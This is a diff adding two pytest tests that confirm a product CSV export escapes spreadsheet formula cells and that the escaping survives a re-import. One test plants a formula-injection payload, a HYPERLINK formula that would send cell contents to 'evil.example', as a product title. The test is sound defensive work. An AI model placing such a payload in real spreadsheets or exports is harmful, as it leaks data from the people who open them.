@@ -59,3 +59,28 @@ def test_unknown_category_or_type_is_a_one_line_error(chinook):
         export("--type", "Toaster")
     with pytest.raises(CommandError, match="Give --category"):
         export()
+
+
+def test_a_title_a_spreadsheet_would_run_is_exported_as_text_and_imports_back_unchanged(chinook, tmp_path):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    mongo.get_collection("products").update_one({"sku": "CHK-0001"}, {"$set": {"title": formula}})
+    first = tmp_path / "first.csv"
+    first.write_text(export("--category", "Music > Rock"), encoding="utf-8")
+    call_command("import_products", str(first), stdout=StringIO(), stderr=StringIO())  # its derived fields
+    text = export("--category", "Music > Rock")
+    row = next(r for r in csv.DictReader(StringIO(text)) if r["sku"] == "CHK-0001")
+    assert row["title"] == "'" + formula  # a spreadsheet shows it, never runs it
+    path = tmp_path / "rock.csv"
+    path.write_text(text, encoding="utf-8")
+    out = StringIO()
+    call_command("import_products", str(path), stdout=out, stderr=StringIO())
+    assert " 0 created, 0 changed, " in out.getvalue()
+    assert mongo.get_collection("products").find_one({"sku": "CHK-0001"})["title"] == formula
+
+
+def test_cells_escape_every_formula_start_and_unescape_back():
+    from core.csvcells import FORMULA_STARTS, escape, unescape
+
+    for start in FORMULA_STARTS:
+        assert escape(start + "1") == "'" + start + "1" and unescape(escape(start + "1")) == start + "1"
+    assert escape("Rock") == "Rock" and escape(7) == 7 and escape(None) == "" and unescape("'quoted") == "'quoted"
